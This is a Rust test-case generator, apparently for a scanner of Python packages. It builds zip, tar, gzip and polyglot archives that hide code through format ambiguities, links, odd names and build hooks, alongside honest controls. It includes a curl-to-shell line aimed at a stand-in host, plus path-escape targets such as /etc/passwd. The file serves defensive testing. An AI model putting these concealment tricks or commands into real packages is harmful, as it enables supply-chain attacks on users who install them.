//! What a second look found: each trick with a payload, and with a content that harms nobody.

use crate::case::*;
use crate::craft::*;

/// Python that only greets.
const TAME: &[u8] = b"GREETING = 'hello'\nprint(GREETING)\n";

/// The trick with a payload, which must be found, and with a harmless text, which does not make it honest.
fn trick(cases: &mut Cases, name: &str, file: &'static str, rule: &'static str, make: &dyn Fn(&[u8]) -> Vec<u8>) {
    cases.seen(format!("again-{name}"), file, make(&payload()), rule);
    cases.told(format!("again-{name}-tame"), file, make(TAME), rule);
}

fn linked(name: &str, target: &[u8]) -> Entry {
    Entry::stored(name, target).each(|head| head.mode = 0o120_777)
}

/// A zipped sdist whose `setup.py` is something else, with more entries behind it.
fn with_setup(setup: Entry, more: Vec<Entry>) -> Zip {
    let mut zip = sdist_zip();
    let place = at(&zip, "demo-1.0/setup.py");
    zip.entries[place] = setup;
    zip.entries.extend(more);
    zip
}

fn setup_of(code: &[u8]) -> Vec<u8> {
    [code, SETUP].concat()
}

pub(crate) fn zips() -> Vec<Case> {
    let mut cases = Cases::new(Row::ZipAmbiguity);
    let inside = |name: &str| format!("demo-1.0/demo/{name}");
    // Two zip64 records: CPython takes the one before the locator, others the one that it points at.
    for (name, evil_first) in [("zip64-record-before-locator", true), ("zip64-record-pointed-at", false)] {
        trick(&mut cases, name, SDIST_ZIP, "archive-two-readings", &|code| {
            let clean = sdist_zip();
            let evil = with_setup(Entry::deflated("demo-1.0/setup.py", &setup_of(code)), Vec::new());
            let (near, far) = if evil_first { (&evil, &clean) } else { (&clean, &evil) };
            let mut bytes = Vec::new();
            let mut records = Vec::new();
            for zip in [far, near] {
                let start = bytes.len();
                let shifted = Zip { prefix: bytes.clone(), shifted: true, ..zip.clone() };
                let (mut told, mut end_at) = (None, 0);
                bytes = shifted.ending(|end, at| {
                    (told, end_at) = (Some(end), at);
                    Vec::new()
                });
                assert!(bytes.len() > start);
                let mut end = told.unwrap();
                // Offsets of the directory count from the start of the file.
                end.offset = (end_at - u64::from(end.size)) as u32;
                records.push(end);
            }
            let [far, near] = [&records[0], &records[1]];
            let record =
                |end: &End| end64(0, u64::from(end.entries), u64::from(end.size), u64::from(end.offset))[..56].to_vec();
            let far_at = bytes.len() as u64;
            bytes.extend(record(far));
            bytes.extend(record(near));
            bytes.extend(&end64(far_at, 0, 0, 0)[56..]);
            bytes.extend(End { entries: 0xffff, size: u32::MAX, offset: u32::MAX, ..near.clone() }.bytes());
            bytes
        });
    }
    trick(&mut cases, "zip64-extensible-data", SDIST_ZIP, "archive-extra-bytes", &|code| {
        sdist_zip().ending(|end, at| {
            let mut record = end64(at, u64::from(end.entries), u64::from(end.size), u64::from(end.offset));
            let locator = record.split_off(56);
            record[4..12].copy_from_slice(&(44 + code.len() as u64).to_le_bytes());
            [record, code.to_vec(), locator, end.bytes()].concat()
        })
    });
    trick(&mut cases, "end-magic-in-comment", SDIST_ZIP, "archive-two-readings", &|code| {
        let zip = with_setup(Entry::deflated("demo-1.0/setup.py", &setup_of(code)), Vec::new());
        zip.ending(|end, _| End { comment: b"made by PK\x05\x06".to_vec(), ..end }.bytes())
    });
    trick(&mut cases, "archive-in-comment", SDIST_ZIP, "", &|code| {
        let tar = tar_gz(&sdist_parts(&setup_of(code)));
        sdist_zip().ending(|end, _| End { comment: tar, ..end }.bytes())
    });
    // Fields that are known, filled with what they never hold.
    for (name, id) in [("time", 0x5455u16), ("owner", 0x7875), ("alignment", 0xd935), ("unicode-comment", 0x6375)] {
        trick(&mut cases, &format!("code-in-{name}-field"), SDIST_ZIP, "archive-extra-bytes", &|code| {
            let entry = Entry::deflated("demo-1.0/setup.py", SETUP).each(|head| head.extra = extra(id, code));
            with_setup(entry, Vec::new()).bytes()
        });
    }
    trick(&mut cases, "extra-field-cut", SDIST_ZIP, "archive-two-readings", &|code| {
        let entry = Entry::deflated("demo-1.0/setup.py", &setup_of(code));
        with_setup(entry.each(|head| head.extra = b"UT\xff\0\x01".to_vec()), Vec::new()).bytes()
    });
    trick(&mut cases, "zip64-field-twice", SDIST_ZIP, "archive-two-readings", &|code| {
        let entry = Entry::deflated("demo-1.0/setup.py", &setup_of(code));
        let sizes =
            |one: u32, other: u32| extra(1, &[u64::from(one).to_le_bytes(), u64::from(other).to_le_bytes()].concat());
        let entry = entry.central(|head| {
            head.extra = [sizes(head.size, head.packed), sizes(3, 3)].concat();
            (head.size, head.packed) = (u32::MAX, u32::MAX);
        });
        with_setup(entry, Vec::new()).bytes()
    });
    trick(&mut cases, "unicode-path-of-another-version", SDIST_ZIP, "archive-deceptive-name", &|code| {
        let mut field = unicode_path(b"demo-1.0/notes.txt", "demo-1.0/setup.py");
        field[4] = 2;
        let entry = Entry::deflated("demo-1.0/notes.txt", &setup_of(code)).each(|head| head.extra = field.clone());
        sdist_zip().and(entry).bytes()
    });
    trick(&mut cases, "unicode-path-twice", SDIST_ZIP, "archive-deceptive-name", &|code| {
        let name = "demo-1.0/notes.txt";
        let fields = [unicode_path(name.as_bytes(), name), unicode_path(name.as_bytes(), "demo-1.0/setup.py")].concat();
        let entry = Entry::deflated(name, &setup_of(code)).each(|head| head.extra = fields.clone());
        sdist_zip().and(entry).bytes()
    });
    for (name, mode) in [("folder", 0o040_755), ("pipe", 0o010_644), ("device", 0o020_644), ("socket", 0o140_644)] {
        trick(&mut cases, &format!("mode-of-a-{name}"), SDIST_ZIP, "", &|code| {
            let entry = Entry::deflated("demo-1.0/setup.py", &setup_of(code)).each(|head| head.mode = mode);
            with_setup(entry, Vec::new()).bytes()
        });
    }
    trick(&mut cases, "flag-of-patches", SDIST_ZIP, "archive-two-readings", &|code| {
        let entry = Entry::deflated("demo-1.0/setup.py", &setup_of(code)).each(|head| head.flags |= 0x20);
        with_setup(entry, Vec::new()).bytes()
    });
    for (name, before) in [("record", &b"PK\x06\x08\x40\0\0\0"[..]), ("zeros", &[0; 300]), ("noise", &[1, 2, 3, 0, 4])]
    {
        trick(&mut cases, &format!("code-behind-{name}"), SDIST_ZIP, "archive-extra-bytes", &|code| {
            Zip { before_directory: [before, code].concat(), ..sdist_zip() }.bytes()
        });
        trick(&mut cases, &format!("code-behind-{name}-at-end"), SDIST_ZIP, "archive-extra-bytes", &|code| {
            Zip { trailing: [before, code].concat(), ..sdist_zip() }.bytes()
        });
    }

    let mut clear = |name: &str, zip: Zip| cases.clear(format!("again-honest-{name}"), SDIST_ZIP, zip.bytes());
    for (name, field) in [
        ("ntfs-times", extra(0x000a, &[&[0; 4][..], &[1, 0, 24, 0], &[7; 24]].concat())),
        ("jar-mark", extra(0xcafe, b"")),
        ("alignment", extra(0xd935, &[4, 0, 0, 0, 0, 0])),
        ("owners", extra(0x7855, &[1, 0, 2, 0])),
        ("padding", vec![0, 0, 0]),
    ] {
        let entry = Entry::deflated("demo-1.0/setup.py", SETUP).each(|head| head.extra = field.clone());
        clear(&format!("field-{name}"), with_setup(entry, Vec::new()));
    }
    clear("dos-folder", {
        let folder = Entry::stored("demo-1.0/docs/", b"").each(|head| head.mode = 0);
        sdist_zip().and(folder)
    });
    clear("empty-streamed", sdist_zip().and(Entry::streamed(&inside("py.typed"), b"", true, false)));
    for (name, signed, wide) in [("signed", true, false), ("plain", false, false), ("wide", true, true)] {
        let entry = Entry::streamed("demo-1.0/setup.py", SETUP, signed, wide);
        clear(&format!("streamed-{name}"), with_setup(entry, Vec::new()));
    }
    cases.clear(
        "again-honest-comment",
        SDIST_ZIP,
        sdist_zip().ending(|end, _| End { comment: b"built by the release job, 2024-11-23".to_vec(), ..end }.bytes()),
    );
    cases.all
}

pub(crate) fn links() -> Vec<Case> {
    let mut cases = Cases::new(Row::Links);
    let setup = "demo-1.0/setup.py";
    let notes = |code: &[u8]| Entry::deflated("demo-1.0/notes.txt", &setup_of(code));
    trick(&mut cases, "zip-alias", SDIST_ZIP, "archive-link", &|code| {
        with_setup(linked(setup, b"notes.txt"), vec![notes(code)]).bytes()
    });
    trick(&mut cases, "zip-alias-dotted", SDIST_ZIP, "archive-link", &|code| {
        with_setup(linked(setup, b"./demo/../notes.txt"), vec![notes(code)]).bytes()
    });
    trick(&mut cases, "zip-alias-chain", SDIST_ZIP, "archive-link", &|code| {
        let more = vec![linked("demo-1.0/a", b"b"), linked("demo-1.0/b", b"notes.txt"), notes(code)];
        with_setup(linked(setup, b"a"), more).bytes()
    });
    trick(&mut cases, "zip-alias-replaces", SDIST_ZIP, "archive-duplicate-name", &|code| {
        sdist_zip().and(linked(setup, b"notes.txt")).and(notes(code)).bytes()
    });
    // CPython makes no link of it: what should be a target is written as the file.
    trick(&mut cases, "zip-target-is-code", SDIST_ZIP, "archive-link", &|code| {
        with_setup(linked(setup, &setup_of(code)), Vec::new()).bytes()
    });
    trick(&mut cases, "zip-through-link", SDIST_ZIP, "archive-link", &|code| {
        let more = [linked("demo-1.0/lib", b"demo"), Entry::deflated("demo-1.0/lib/tool.py", code)];
        [sdist_zip()].into_iter().map(|zip| more.iter().cloned().fold(zip, Zip::and)).next().unwrap().bytes()
    });
    trick(&mut cases, "zip-loop", SDIST_ZIP, "archive-special-member", &|code| {
        let more = vec![linked("demo-1.0/demo/a.py", b"b.py"), linked("demo-1.0/demo/b.py", b"a.py")];
        with_setup(Entry::deflated(setup, &setup_of(code)), more).bytes()
    });
    for (name, target) in [("climb", "../../../etc/passwd"), ("absolute", "/etc/passwd"), ("drive", "C:\\x")] {
        trick(&mut cases, &format!("zip-escape-{name}"), SDIST_ZIP, "archive-path-escape", &|code| {
            let more = vec![linked("demo-1.0/demo/link", target.as_bytes())];
            with_setup(Entry::deflated(setup, &setup_of(code)), more).bytes()
        });
    }
    cases.seen(
        "again-zip-folder-alias",
        SDIST_ZIP,
        sdist_zip()
            .and(linked("demo-1.0/demo/plugin", b"../data"))
            .and(Entry::deflated("demo-1.0/data/__init__.py", &payload()))
            .bytes(),
        "",
    );
    trick(&mut cases, "tar-backslash-target", SDIST, "archive-odd-path", &|code| {
        sdist_and(&[file("demo-1.0/notes.txt", code), symlink("demo-1.0/demo/tool.py", "..\\notes.txt")])
    });

    let mut clear = |name: &str, more: &[Entry]| {
        let zip = more.iter().cloned().fold(sdist_zip(), Zip::and);
        cases.clear(format!("again-honest-{name}"), SDIST_ZIP, zip.bytes());
    };
    clear(
        "zip-link-readme",
        &[linked("demo-1.0/README", b"demo/README"), Entry::stored("demo-1.0/demo/README", b"x\n")],
    );
    clear(
        "zip-link-module",
        &[linked("demo-1.0/demo/alias.py", b"core.py"), Entry::deflated("demo-1.0/demo/core.py", CLEAN)],
    );
    clear("zip-link-folder", &[linked("demo-1.0/docs/img", b"../img"), Entry::stored("demo-1.0/img/a.txt", b"x\n")]);
    clear("zip-link-dangling", &[linked("demo-1.0/demo/latest", b"nowhere.txt")]);
    clear("zip-link-library", &[linked("demo-1.0/lib.so", b"lib.so.1"), Entry::stored("demo-1.0/lib.so.1", b"x\n")]);
    cases.all
}

pub(crate) fn tars() -> Vec<Case> {
    let mut cases = Cases::new(Row::TarAmbiguity);
    let tool = "demo-1.0/demo/tool.py";
    trick(&mut cases, "regular-file-named-folder", SDIST, "archive-odd-path", &|code| {
        sdist_and(&[file("demo-1.0/setup.py/", &setup_of(code))])
    });
    trick(&mut cases, "long-name-goes-on", SDIST, "archive-two-readings", &|code| {
        let name = [&b"demo-1.0/demo/tool.txt\0"[..], code].concat();
        let long = [TarHead::new("././@LongLink", b'L', name.len() as u64).gnu().bytes(), padded(&name)].concat();
        sdist_and(&[long, file("demo-1.0/demo/x.txt", b"x\n")])
    });
    for (name, kind) in [("pax", b'x'), ("long-name", b'L')] {
        trick(&mut cases, &format!("{name}-without-member"), SDIST, "archive-two-readings", &|code| {
            let extension = if kind == b'x' { pax(b'x', &[("path", tool)]) } else { gnu_long(b'L', tool) };
            tar_gz(&[sdist_parts(&setup_of(code)), vec![extension]].concat())
        });
    }
    for (name, size) in [("signed", "+"), ("blank", " "), ("underscored", "0_")] {
        trick(&mut cases, &format!("pax-size-{name}"), SDIST, "archive-two-readings", &|code| {
            let setup = setup_of(code);
            let size = format!("{size}{}", setup.len());
            sdist_and(&[pax(b'x', &[("size", &size)]), file("demo-1.0/setup.py", &setup)])
        });
    }
    trick(&mut cases, "sparse-name-alone", SDIST, "archive-two-readings", &|code| {
        let setup = setup_of(code);
        sdist_and(&[pax(b'x', &[("GNU.sparse.name", "demo-1.0/setup.py")]), file("demo-1.0/notes.txt", &setup)])
    });
    trick(&mut cases, "behind-pax-records", SDIST, "archive-two-readings", &|code| {
        let records = [&pax_record("mtime", b"1")[..], b"\0\0\0", code].concat();
        sdist_and(&[pax_raw(b'x', &records), file(tool, CLEAN)])
    });
    trick(&mut cases, "name-of-nothing", SDIST, "archive-deceptive-name", &|code| {
        tar_gz(&[sdist_parts(&setup_of(code)), vec![file("\0tool.py", code)]].concat())
    });
    cases.seen(
        "again-pax-comment-is-code",
        SDIST,
        {
            let code = String::from_utf8(payload()).unwrap();
            sdist_and(&[pax(b'x', &[("comment", &code)]), file(tool, CLEAN)])
        },
        "",
    );
    cases.seen(
        "again-global-then-local-path",
        SDIST,
        {
            let (global, local) = (pax(b'g', &[("path", tool)]), pax(b'x', &[("path", "demo-1.0/notes.txt")]));
            sdist_and(&[global, local, file("demo-1.0/z.txt", &payload())])
        },
        "archive-two-readings",
    );
    let mut clear =
        |name: &str, parts: &[Vec<u8>]| cases.clear(format!("again-honest-{name}"), SDIST, sdist_and(parts));
    clear(
        "pax-attributes",
        &[
            pax(
                b'x',
                &[("SCHILY.xattr.security.selinux", "unconfined_u:object_r:user_home_t:s0"), ("SCHILY.ino", "12345")],
            ),
            file(tool, CLEAN),
        ],
    );
    clear(
        "pax-quarantine",
        &[
            pax(
                b'x',
                &[("SCHILY.xattr.com.apple.quarantine", "0083;5f3c9a11;Safari;E6A1"), ("LIBARCHIVE.creationtime", "1")],
            ),
            file(tool, CLEAN),
        ],
    );
    clear("pax-size-of-itself", &[pax(b'x', &[("size", &CLEAN.len().to_string())]), file(tool, CLEAN)]);
    clear("pax-large-owner", &[pax(b'x', &[("uid", "4294967294"), ("gid", "4294967294")]), file(tool, CLEAN)]);
    clear(
        "size-of-twelve-digits",
        &[TarHead::new(tool, b'0', 0).with(124, format!("{:012o}", CLEAN.len()).as_bytes()).bytes(), padded(CLEAN)],
    );
    cases.all
}

/// A gzip header with these flags and fields before an honest sdist.
fn gzip_with(flags: u8, fields: &[u8], parts: &[Vec<u8>]) -> Vec<u8> {
    let body = gzip(&tar(parts));
    [&[0x1f, 0x8b, 8, flags, 0, 0, 0, 0, 0, 3][..], fields, &body[10..]].concat()
}

pub(crate) fn streams() -> Vec<Case> {
    let mut cases = Cases::new(Row::Streams);
    let field = |bytes: &[u8]| [&(bytes.len() as u16).to_le_bytes()[..], bytes].concat();
    trick(&mut cases, "extra-field", SDIST, "archive-extra-bytes", &|code| {
        gzip_with(4, &field(code), &sdist_parts(SETUP))
    });
    trick(&mut cases, "extra-field-is-gzip", SDIST, "archive-extra-bytes", &|code| {
        gzip_with(4, &field(&gzip(&tar(&[file("demo-1.0/setup.py", code)]))), &sdist_parts(SETUP))
    });
    trick(&mut cases, "flags-of-nothing", SDIST, "archive-extra-bytes", &|code| {
        gzip_with(0xe0, b"", &sdist_parts(&setup_of(code)))
    });
    trick(&mut cases, "header-checksum", SDIST, "archive-extra-bytes", &|code| {
        gzip_with(2, &[0xde, 0xad], &sdist_parts(&setup_of(code)))
    });
    for (name, text) in [
        ("call", &b"import os;os.system('curl http://collect.invalid/x | sh')"[..]),
        ("escape", b"\x1b[2J\x1b]0;owned\x07.tar"),
        ("climb", b"../../../etc/cron.d/demo"),
        ("line", b"demo.tar\nimport os"),
    ] {
        let bytes = gzip_with(8, &[text, &[0]].concat(), &sdist_parts(SETUP));
        cases.told(format!("again-name-{name}"), SDIST, bytes, "archive-extra-bytes");
    }
    trick(&mut cases, "zeros-then-code", SDIST, "archive-extra-bytes", &|code| {
        gzip(&[&tar(&sdist_parts(SETUP))[..], &[0; 100], code].concat())
    });
    // The files of the other kind: each installer goes by the name.
    trick(&mut cases, "wheel-as-sdist", SDIST_ZIP, "archive-two-readings", &|code| {
        wheel_zip(&[("demo/__init__.py", code)]).bytes()
    });
    trick(&mut cases, "sdist-as-wheel", WHEEL, "archive-two-readings", &|code| {
        with_setup(Entry::deflated("demo-1.0/setup.py", &setup_of(code)), Vec::new()).bytes()
    });
    trick(&mut cases, "wheel-as-egg", "demo-1.0-py3.11.egg", "archive-two-readings", &|code| {
        wheel_zip(&[("demo/__init__.py", code)]).bytes()
    });
    trick(&mut cases, "wheel-in-tar", SDIST, "archive-two-readings", &|code| {
        let files = [
            ("demo/__init__.py", code),
            ("demo-1.0.dist-info/METADATA", METADATA),
            ("demo-1.0.dist-info/WHEEL", WHEEL_FILE),
        ];
        tar_gz(&files.map(|(name, data)| file(name, data)))
    });
    for name in [
        "dist/demo-1.0.tar",
        "dist\\demo-1.0.old.tar",
        "C:\\build\\dist\\demo-1.0.tar",
        "demo 1.0 (copy).tar",
        "/tmp/b/demo.tar",
    ] {
        let bytes = gzip_with(8, &[name.as_bytes(), &[0]].concat(), &sdist_parts(SETUP));
        cases.clear(format!("again-honest-name-{}", name.replace(['/', '\\', ':'], "-")), SDIST, bytes);
    }
    let parts = sdist_parts(SETUP);
    cases.clear("again-honest-comment", SDIST, gzip_with(16, b"made by the release job, step 3\0", &parts));
    cases.clear("again-honest-blocked", SDIST, gzip_with(4, &field(b"BC\x02\0\x01\x02"), &parts));
    let head = [0x1f, 0x8b, 8, 2, 0, 0, 0, 0, 0, 3];
    cases.clear("again-honest-header-checksum", SDIST, gzip_with(2, &(crc(&head) as u16).to_le_bytes(), &parts));
    cases.clear("again-honest-empty-first-member", SDIST, [gzip(b""), tar_gz(&parts)].concat());
    cases.all
}

pub(crate) fn names() -> Vec<Case> {
    let mut cases = Cases::new(Row::Names);
    for (name, path) in [
        ("no-break-space", "demo/\u{a0}core.py"),
        ("line-separator", "demo/a\u{2028}b.py"),
        ("hangul-filler", "demo/a\u{3164}b.py"),
        ("mongolian-separator", "demo/a\u{180e}.py"),
        ("grapheme-joiner", "demo/a\u{34f}b.py"),
        ("variation-selector", "demo/a\u{fe0f}.py"),
        ("no-character", "demo/\u{ffff}.py"),
        ("braille-blank", "demo/\u{2800}x.py"),
        ("fullwidth", "demo/\u{ff53}ite.py"),
        ("ligature", "demo/\u{fb01}le.py"),
        ("long-s", "demo/\u{17f}ite.py"),
        ("kelvin", "demo/\u{212a}ey.py"),
        ("cyrillic-in-latin", "demo/c\u{43e}re.py"),
        ("greek-in-latin", "demo/c\u{3bf}re.py"),
        ("cyrillic-init", "demo/__\u{456}nit__.py"),
        ("percent-zero", "demo/core.py%00.txt"),
        ("superscript-port", "demo/COM\u{b9}.py"),
        ("console", "demo/CONIN$"),
        ("stream-kind", "demo/core:$DATA"),
    ] {
        trick(&mut cases, name, SDIST, "", &|code| {
            let inside = format!("demo-1.0/{path}");
            let named = [pax(b'x', &[("path", &inside)]), file("demo-1.0/x", TAME)];
            tar_gz(&[sdist_parts(&setup_of(code)), named.to_vec()].concat())
        });
    }
    for (name, path) in [
        ("screenshot", "docs/Screenshot 2024-01-01 at 9.41.00\u{202f}AM.png.txt"),
        ("keycap", "docs/1\u{fe0f}\u{20e3}.txt"),
        ("family", "docs/\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}.txt"),
        ("two-scripts", "docs/\u{43e}\u{442}\u{447}\u{451}\u{442}-2024-report.txt"),
        ("helix", "docs/\u{3b1}-helix.txt"),
        ("decomposed", "docs/cafe\u{301}.txt"),
        ("ideographic-space", "docs/\u{8cc7}\u{6599}\u{3000}1.txt"),
        ("signs", "docs/a+b=c @2x #1 {x} [id] 50% it's $5 ~.txt"),
        ("delta", "docs/\u{394}t.txt"),
        ("trademark", "docs/Demo\u{2122}.txt"),
    ] {
        let parts = [pax(b'x', &[("path", &format!("demo-1.0/{path}"))]), file("demo-1.0/docs/x", b"x\n")];
        cases.clear(format!("again-honest-{name}"), SDIST, sdist_and(&parts));
    }
    cases.all
}

fn png() -> Vec<u8> {
    let chunk = |kind: &[u8], data: &[u8]| {
        let body = [kind, data].concat();
        [&(data.len() as u32).to_be_bytes()[..], &body, &crc(&body).to_be_bytes()].concat()
    };
    let head = [0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0];
    [
        &b"\x89PNG\r\n\x1a\n"[..],
        &chunk(b"IHDR", &head),
        &chunk(b"IDAT", &[0x78, 1, 1, 4, 0, 0xfb, 0xff, 0, 0, 0, 0, 0, 4, 0, 1]),
        &chunk(b"IEND", b""),
    ]
    .concat()
}

const GIF: &[u8] = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;";
const JPEG: &[u8] = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9";

pub(crate) fn polyglots() -> Vec<Case> {
    let mut cases = Cases::new(Row::Polyglots);
    let run = |code: &[u8]| Zip::of(vec![Entry::deflated("__main__.py", code)]).bytes();
    let text = b"Notes for those who use this, in a few words.\n";
    for (name, path, front) in [
        ("text", "demo/notes.txt", text.to_vec()),
        ("short-text", "demo/notes.md", b"# N\n".to_vec()),
        ("table", "demo/table.csv", b"a,b\n1,2\n".to_vec()),
        ("page", "demo/page.html", b"<html><body>x</body></html>\n".to_vec()),
        ("drawing", "demo/a.svg", b"<svg xmlns='x'/>\n".to_vec()),
        ("icon", "demo/a.ico", b"\0\0\x01\0\x01\0\x10\x10\0\0".to_vec()),
        ("font", "demo/a.ttf", b"\0\x01\0\0\0\x0c\0\x80".to_vec()),
        ("database", "demo/a.db", b"SQLite format 3\0\0\0\0".to_vec()),
        ("array", "demo/a.npy", b"\x93NUMPY\x01\0v\0{}\n".to_vec()),
        ("noise", "demo/data.bin", (1..200).collect()),
        ("elf", "demo/_core.so", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0".to_vec()),
        ("class", "demo/Core.class", b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d".to_vec()),
    ] {
        trick(&mut cases, &format!("zip-behind-{name}"), SDIST, "archive-appended", &|code| {
            sdist_with(&[(path, &[&front[..], &run(code)].concat())])
        });
    }
    for (name, path, front) in [
        ("png", "demo/a.png", png()),
        ("gif", "demo/a.gif", GIF.to_vec()),
        ("jpeg", "demo/a.jpg", JPEG.to_vec()),
        ("text", "demo/a.txt", text.to_vec()),
    ] {
        trick(&mut cases, &format!("tar-gz-behind-{name}"), SDIST, "archive-appended", &|code| {
            sdist_with(&[(path, &[&front[..], &tar_gz(&[file("run.py", code)])].concat())])
        });
        trick(&mut cases, &format!("xz-behind-{name}"), SDIST, "archive-appended", &|code| {
            sdist_with(&[(path, &[&front[..], &xz(code)].concat())])
        });
        trick(&mut cases, &format!("tar-behind-{name}"), SDIST, "archive-appended", &|code| {
            sdist_with(&[(path, &[&front[..], &tar(&[file("run.py", code)])].concat())])
        });
    }
    cases.seen(
        "again-code-behind-png",
        SDIST,
        sdist_with(&[("demo/a.png", &[&png()[..], b"\n", &payload()].concat())]),
        "",
    );
    cases.seen(
        "again-setup-executes-page",
        SDIST,
        tar_gz(
            &[
                sdist_parts(&setup_of(b"exec(open('demo/page.html').read())\n")),
                vec![file("demo-1.0/demo/page.html", &payload())],
            ]
            .concat(),
        ),
        "",
    );
    let mut clear = |name: &str, path: &str, data: &[u8]| {
        cases.clear(format!("again-honest-{name}"), SDIST, sdist_with(&[(path, data)]));
    };
    clear("png", "demo/a.png", &png());
    clear("gif", "demo/a.gif", GIF);
    clear("jpeg", "demo/a.jpg", JPEG);
    clear("png-padded", "demo/a.png", &[&png()[..], &[0; 40]].concat());
    clear(
        "jpeg-with-tail",
        "demo/a.jpg",
        &[JPEG, &[0x51, 0, 7, 9, 200, 3, 1, 0, 0, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9]].concat(),
    );
    clear(
        "text-about-magic",
        "docs/zip.txt",
        b"A zip begins with PK\x03\x04 and ends with PK\x05\x06, a tar has ustar in it.\n",
    );
    clear("disk-image", "demo/a.dmg", &[&[0; 2000][..], &gzip(b"some data of an image"), &[0; 500]].concat());
    clear("saved-texts", "demo/a.txt", "Grüße, naïve café, 日本語\n".repeat(40).as_bytes());
    cases.all
}

pub(crate) fn wheels() -> Vec<Case> {
    let mut cases = Cases::new(Row::Wheels);
    let init = ("demo/__init__.py", CLEAN);
    let rule = "wheel-contradicts";
    for (name, files) in [
        (
            "second-info",
            vec![("other-2.0.dist-info/METADATA", &b"Metadata-Version: 2.1\nName: other\nVersion: 2.0\n"[..])],
        ),
        (
            "second-info-of-itself",
            vec![("demo-2.0.dist-info/METADATA", METADATA), ("demo-2.0.dist-info/WHEEL", WHEEL_FILE)],
        ),
        (
            "second-entry-points",
            vec![("zz-1.0.dist-info/entry_points.txt", &b"[console_scripts]\nls = demo.tool:main\n"[..])],
        ),
        ("other-data", vec![("other-1.0.data/purelib/other.py", CLEAN)]),
    ] {
        trick(&mut cases, name, WHEEL, rule, &|code| {
            let all = [&[init, ("demo/tool.py", code)][..], &files].concat();
            wheel_zip(&all).bytes()
        });
    }
    trick(&mut cases, "info-of-another", WHEEL, rule, &|code| {
        let metadata = String::from_utf8(METADATA.to_vec()).unwrap().replace("Name: demo", "Name: requests");
        wheel_zip(&[init, ("demo/tool.py", code), ("demo-1.0.dist-info/METADATA", metadata.as_bytes())]).bytes()
    });
    trick(&mut cases, "name-twice", WHEEL, rule, &|code| {
        let metadata =
            String::from_utf8(METADATA.to_vec()).unwrap().replace("Name: demo", "Name: demo\nName: requests");
        wheel_zip(&[init, ("demo/tool.py", code), ("demo-1.0.dist-info/METADATA", metadata.as_bytes())]).bytes()
    });
    for (name, row) in [("climbing", "../../../bin/python"), ("absolute", "/etc/passwd")] {
        trick(&mut cases, &format!("record-row-{name}"), WHEEL, rule, &|code| {
            let mut zip = wheel_zip(&[init, ("demo/tool.py", code)]);
            let place = at(&zip, "demo-1.0.dist-info/RECORD");
            let files: [(&str, &[u8]); 5] = [
                init,
                ("demo/tool.py", code),
                ("demo-1.0.dist-info/METADATA", METADATA),
                ("demo-1.0.dist-info/WHEEL", WHEEL_FILE),
                (row, CLEAN),
            ];
            zip.entries[place] = Entry::deflated("demo-1.0.dist-info/RECORD", &record(&files));
            zip.bytes()
        });
    }
    for (name, file, from, to) in [
        ("version-of-another", "METADATA", "\nVersion: 1.0\n", "\nVersion: 2.0\n"),
        ("format-of-tomorrow", "WHEEL", "Wheel-Version: 1.0", "Wheel-Version: 9.0"),
        ("format-of-nothing", "WHEEL", "Wheel-Version: 1.0\n", ""),
    ] {
        trick(&mut cases, name, WHEEL, rule, &|code| {
            let text = if file == "WHEEL" { WHEEL_FILE } else { METADATA };
            let changed = String::from_utf8(text.to_vec()).unwrap().replace(from, to);
            let mut zip = wheel_zip(&[init, ("demo/tool.py", code)]);
            let place = at(&zip, &format!("demo-1.0.dist-info/{file}"));
            zip.entries[place] = Entry::deflated(&format!("demo-1.0.dist-info/{file}"), changed.as_bytes());
            zip.bytes()
        });
    }
    trick(&mut cases, "file-is-folder", WHEEL, "archive-name-collision", &|code| {
        wheel_zip(&[init, ("demo/tool", CLEAN), ("demo/tool/__init__.py", code)]).bytes()
    });
    trick(&mut cases, "file-is-folder-in-tar", SDIST, "archive-name-collision", &|code| {
        sdist_with(&[("demo/tool", CLEAN), ("demo/tool/__init__.py", code)])
    });
    // Code that a build backend runs, though no `setup.py` names it.
    let hatch = b"[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n";
    let pdm = b"[build-system]\nrequires = [\"pdm-backend\"]\nbuild-backend = \"pdm.backend\"\n";
    for (name, project, path) in [
        ("hatch-hook", [&hatch[..], b"[tool.hatch.build.hooks.custom]\n"].concat(), "hatch_build.py"),
        (
            "hatch-target-hook",
            [&hatch[..], b"[tool.hatch.build.targets.wheel.hooks.custom]\npath = \"tools/make_it.py\"\n"].concat(),
            "tools/make_it.py",
        ),
        ("hatch-metadata-hook", [&hatch[..], b"[tool.hatch.metadata.hooks.custom]\npath = \"meta.py\"\n"].concat(), "meta.py"),
        ("hatch-version", [&hatch[..], b"[tool.hatch.version]\nsource = \"code\"\npath = \"ver.py\"\n"].concat(), "ver.py"),
        ("pdm-hook", pdm.to_vec(), "pdm_build.py"),
        ("pdm-named-hook", [&pdm[..], b"[tool.pdm.build]\ncustom-hook = \"ci/hook.py\"\n"].concat(), "ci/hook.py"),
        (
            "poetry-script",
            b"[build-system]\nrequires = [\"poetry-core\"]\nbuild-backend = \"poetry.core.masonry.api\"\n[tool.poetry.build]\nscript = \"ci/make.py\"\n".to_vec(),
            "ci/make.py",
        ),
        (
            "setuptools-command",
            b"[build-system]\nrequires = [\"setuptools\"]\n[tool.setuptools.cmdclass]\ninstall = \"ci.hook.Install\"\n".to_vec(),
            "ci/hook.py",
        ),
    ] {
        cases.seen(format!("again-{name}"), SDIST, sdist_with(&[("pyproject.toml", &project), (path, &payload())]), "");
        cases.clear(format!("again-honest-{name}"), SDIST, sdist_with(&[("pyproject.toml", &project), (path, CLEAN)]));
    }
    let commands = b"[metadata]\nname = demo\n[options]\ncmdclass =\n    install = ci.hook.Install\n";
    cases.seen(
        "again-configured-command",
        SDIST,
        sdist_with(&[("setup.cfg", commands), ("ci/hook.py", &payload())]),
        "",
    );
    let mut clear = |name: &str, files: &[(&str, &[u8])]| {
        let all = [&[init][..], files].concat();
        cases.clear(format!("again-honest-{name}"), WHEEL, wheel_zip(&all).bytes());
    };
    clear(
        "vendored-info",
        &[
